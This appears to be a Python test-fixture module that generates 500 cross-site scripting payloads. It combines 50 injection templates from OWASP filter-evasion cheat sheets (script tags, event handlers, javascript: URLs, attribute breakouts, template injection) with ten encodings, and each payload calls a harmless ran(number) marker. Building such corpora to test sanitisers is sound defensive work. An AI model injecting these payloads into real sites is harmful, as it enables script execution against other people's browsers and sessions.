"""Scripts in the words of officers: 500 ways in which a text could become part of a page.

The ways are those of OWASP's cheat sheets on cross-site scripting and filter evasion: markup, ways
out of attributes, scripts and comments, addresses that run, templates, and encodings of them.
Each calls `ran(number)`, if it ever runs.
"""

from collections.abc import Callable
from html import escape
from itertools import islice, product
from urllib.parse import quote

WAYS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script >", "<script>{}//<",
    "<<script>{}//<</script>", "<img src=x onerror={}>", "<img/src=x/onerror={}>",
    '<img src="x" onerror="{}">', "<svg onload={}>", "<svg/onload={}//", "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src=javascript:{}>",
    "<details open ontoggle={}>", "<video src=x onerror={}>", "<input autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>", "<a href='java&#115;cript:{}'>x</a>", "[x](javascript:{})",
    "![x](x\" onerror=\"{})", "[x](data:text/html,<script>{}</script>)", "<javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<base href=javascript:{}//>", "<link rel=stylesheet href=//x>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import'//x'</style>{}",
    "<math><mi xlink:href=javascript:{}>x</mi></math>", "<table background=javascript:{}>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}'>",
    "<textarea></textarea><script>{}</script>", "<title></title><script>{}</script>",
    "-->{}<script>{}</script><!--", "]]><script>{}</script>", "</script><script>{}</script>",
    "\"><script>{}</script>", "'><script>{}</script>", "\" onmouseover={} x=\"",
    "' onfocus={} autofocus x='", "`onclick={}`", "\\\"><script>{}</script>", "\u2028{}//",
    "';{};//", "\";{};//", "\\';{};//", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}",
)  # fmt: skip
CODE = "ran({})"
SPELLINGS: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    escape,
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "&lt"),
    lambda text: text.replace(" ", "\t").replace("=", " = "),
    lambda text: f"**{text}**",
    lambda text: f"- {text}",
)


def payloads(count: int = 500) -> list[str]:
    """`count` of the 500, from all ways first."""
    combinations = product(SPELLINGS, WAYS)
    return [
        spell(way.format(*[CODE.format(number)] * 2))
        for number, (spell, way) in enumerate(islice(combinations, count))
    ]
